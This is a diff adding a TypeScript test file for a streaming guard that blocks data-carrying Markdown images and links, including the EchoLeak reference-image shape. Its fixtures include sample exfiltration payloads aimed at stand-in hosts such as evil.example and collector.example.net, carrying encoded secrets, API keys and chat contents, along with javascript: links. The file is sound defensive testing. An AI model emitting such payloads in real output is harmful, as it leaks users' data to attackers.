@@ -1,0 +1,188 @@
+/**
+ * The exfil pack: images and links that carry data to hosts not on the
+ * allow-list are neutralised before the page can render them, in every
+ * Markdown form, including the EchoLeak shape (a reference-style image whose
+ * definition comes later in the message), whatever the chunking.
+ */
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { scanChunks, scanText } from '../../../src/core/guard/scan-text.ts';
+import { StreamGuard } from '../../../src/core/guard/stream-guard.ts';
+import { compileGuardPack } from '../../../src/core/rules/builtin-packs.ts';
+import { imageQueryIsConfiguration } from '../../../src/core/rules/validators/exfil-image-config-query.ts';
+import { exfilLinkVerdict } from '../../../src/core/rules/validators/exfil-link.ts';
+import { urlCarriesData } from '../../../src/core/rules/validators/url-carries-data.ts';
+import { PROPERTY_RUNS, cut, cutsArbitrary } from '../../support/text-arbitraries.ts';
+
+const exfil = compileGuardPack({ packs: ['exfil'] });
+
+const ECHOLEAK =
+  'Here is the summary.\n\n![status][s]\n\nMore text.\n\n[s]: https://collector.example.net/p.png?d=dGhlIHNlY3JldCBrZXk\n';
+
+describe('exfil pack', () => {
+  it('neutralises the definition of a reference-style image when it is seen (EchoLeak shape)', () => {
+    const out = scanText(exfil, ECHOLEAK);
+    expect(out.output).toBe(
+      'Here is the summary.\n\n![status][s]\n\nMore text.\n\n[link blocked: collector.example.net]\n',
+    );
+    expect(out.events).toMatchObject([
+      { rule: 'markdown-link-definition-exfil', action: 'redact' },
+    ]);
+  });
+
+  it('never releases the data of a definition, for any chunking', () => {
+    fc.assert(
+      fc.property(cutsArbitrary, (cuts) => {
+        const guard = new StreamGuard(exfil);
+        let released = '';
+        for (const chunk of cut(ECHOLEAK, cuts)) released += guard.push(chunk).emit;
+        expect(released).not.toContain('dGhlIHNlY3JldCBrZXk');
+        released += guard.end().emit;
+        expect(released).toBe(scanText(exfil, ECHOLEAK).output);
+        expect(scanChunks(exfil, cut(ECHOLEAK, cuts)).events).toEqual(
+          scanText(exfil, ECHOLEAK).events,
+        );
+      }),
+      { numRuns: Math.min(PROPERTY_RUNS, 300) },
+    );
+  });
+
+  it('neutralises inline images, links, autolinks, bare URLs and <img> that carry data', () => {
+    const cases: [string, string][] = [
+      ['![a](https://evil.example/i.png?q=the+api+key)', '[image blocked: evil.example]'],
+      ['[docs](https://evil.example/track/u=all%20the%20notes)', '[link blocked: evil.example]'],
+      ['<https://evil.example/?m=c2VjcmV0U2Vzc2lvbjE5>', '[link blocked: evil.example]'],
+      ['go https://evil.example/?note=my+password+is+x now', 'go [link blocked: evil.example] now'],
+      [
+        '<img src="https://evil.example/p.gif?x=the%20whole%20chat">',
+        '[image blocked: evil.example]',
+      ],
+      [
+        '[x](https://k4f9q2m7x1c8v3b6n5z0a2s4.evil.example/a)',
+        '[link blocked: k4f9q2m7x1c8v3b6n5z0a2s4.evil.example]',
+      ],
+      ['[run](javascript:history.back)', '[link blocked: javascript:]'],
+      // Parentheses inside a destination end the candidate early: the rest is cut off, fail closed.
+      ['[run](javascript:fetch(1))', '[link blocked: javascript:])'],
+    ];
+    for (const [text, expected] of cases) expect(scanText(exfil, text).output, text).toBe(expected);
+  });
+
+  it('leaves ordinary links and images alone', () => {
+    for (const text of [
+      '[MDN](https://developer.mozilla.org/en-US/docs/Web/API/fetch#syntax)',
+      '![diagram](https://cdn.example.net/img/architecture-overview.png)',
+      'See https://github.com/owner/repo/commit/0482048fb66d4ded8e60c61ffc2fceaeba79eaeb.',
+      '[badge]: https://badges.example.org/build/passing.svg?style=flat',
+      '<img src="/static/logo.png" alt="logo">',
+      '[relative](../guide.md?x=1)',
+    ]) {
+      const out = scanText(exfil, text);
+      expect(out.output, text).toBe(text);
+      expect(out.events, text).toEqual([]);
+    }
+  });
+
+  it('lets data through to allow-listed hosts', () => {
+    const pack = compileGuardPack({ packs: ['exfil'], allowedImageHosts: ['docs.example.org'] });
+    const link = '[q](https://docs.example.org/search?q=streaming+guard+design)';
+    expect(scanText(pack, link).output).toBe(link);
+  });
+});
+
+describe('exfilLinkVerdict and urlCarriesData', () => {
+  it.each([
+    ['https://evil.example/?q=a+b', true],
+    ['https://evil.example/x?token=abc123def456', true],
+    ['https://evil.example/sales=quarterly', true],
+    ['https://evil.example/a/YWJjZGVmZ2hpams0NTY3OA', true],
+    ['https://evil.example/#the%20secret', true],
+    ['https://evil.example/docs/getting-started?tab=readme', false],
+    ['https://evil.example/v/3ee3567b-e24f-4d39-90e2-915b39a114fb', false],
+    ['https://evil.example/wiki/Hello%20World', false],
+  ])('%s carries data: %s', (url, data) => {
+    expect(urlCarriesData(url.slice('https:'.length), 'evil.example')).toBe(data);
+  });
+
+  it('judges links and images differently only where a click matters', () => {
+    expect(exfilLinkVerdict('[m](mailto:a@evil.example?body=hi)', []).risky).toBe(true);
+    expect(exfilLinkVerdict('[m](mailto:a@evil.example)', []).risky).toBe(false);
+    expect(exfilLinkVerdict('[r](/x?session=1)', []).risky).toBe(false);
+    expect(exfilLinkVerdict('![r](/x?session=1)', [], 'image').risky).toBe(true);
+    expect(exfilLinkVerdict('![f](ftp://evil.example/a.png)', [], 'image').risky).toBe(true);
+    expect(exfilLinkVerdict('[cut](https://evil.example/?q=a+b', []).risky).toBe(true);
+  });
+});
+
+describe('imageQueryIsConfiguration', () => {
+  it.each([
+    ['style=flat&logo=github', true],
+    ['&style=for-the-badge&logoColor=white', true],
+    ['branch=main', true],
+    ['version=1', true],
+    ['ver=v2.1', true],
+    ['label=%20', true],
+    ['label=&color=9c4dd1&labelColor=ABCDEF', true],
+    ['width=400&showTitle=false', true],
+    ['raw', true],
+    ['v=1', false],
+    ['d=1', false],
+    ['d=abc123', false],
+    ['d=abc', false],
+    ['q=password', false],
+    ['pin=123456', false],
+    ['tel=4155550132', false],
+    ['q=previous+chat', false],
+    ['note=hello%20there', false],
+    ['k=c2VjcmV0', false],
+    ['x=a.b@c', false],
+    ['a=1&b=2&c=3&d=4&e=5&f=6&g=7&h=8&i=9', false],
+    ['my+secret=1', false],
+    [`label=${'a'.repeat(30)}`, false],
+  ])('%s is configuration: %s', (query, expected) => {
+    expect(imageQueryIsConfiguration(query)).toBe(expected);
+  });
+
+  it('never passes words joined by an encoded space, or a number of 5+ digits, for any value', () => {
+    const word = fc.stringMatching(/^[a-z]{1,8}$/);
+    fc.assert(
+      fc.property(word, word, fc.constantFrom('+', '%20', '%0A'), (a, b, gap) => {
+        expect(imageQueryIsConfiguration(`style=flat&d=${a}${gap}${b}`)).toBe(false);
+      }),
+      { numRuns: PROPERTY_RUNS },
+    );
+    fc.assert(
+      fc.property(fc.stringMatching(/^[0-9]{5,16}$/), (digits) => {
+        expect(imageQueryIsConfiguration(`n=${digits}`)).toBe(false);
+      }),
+      { numRuns: PROPERTY_RUNS },
+    );
+  });
+
+  it('lets badge images through, on unknown and allow-listed hosts alike, and not data', () => {
+    const badge = '![ci](https://badges.example.org/build.svg?branch=main&style=flat)';
+    expect(exfilLinkVerdict(badge, [], 'image').risky).toBe(false);
+    expect(exfilLinkVerdict(badge, ['badges.example.org'], 'image').risky).toBe(false);
+    const data = '![ci](https://badges.example.org/build.svg?branch=main&s=tok3n99)';
+    expect(exfilLinkVerdict(data, [], 'image').risky).toBe(true);
+    expect(exfilLinkVerdict(data, ['badges.example.org'], 'image').risky).toBe(true);
+  });
+
+  it('judges a URL-valued query parameter by its own shape', () => {
+    const inner = encodeURIComponent(
+      'https://store.example.com/api/items/abcdefghijklmnopqrstuvwx',
+    );
+    expect(urlCarriesData(`//badges.example.org/json?url=${inner}`, 'badges.example.org')).toBe(
+      false,
+    );
+    const leaky = encodeURIComponent('https://collect.example.net/log?q=the+user+said');
+    expect(urlCarriesData(`//badges.example.org/json?url=${leaky}`, 'badges.example.org')).toBe(
+      true,
+    );
+    const nested = encodeURIComponent(`https://a.example/r?u=${inner}`);
+    // Only one level deep: a URL inside a URL inside a query is judged by length again.
+    expect(urlCarriesData(`//badges.example.org/json?url=${nested}`, 'badges.example.org')).toBe(
+      true,
+    );
+  });
+});
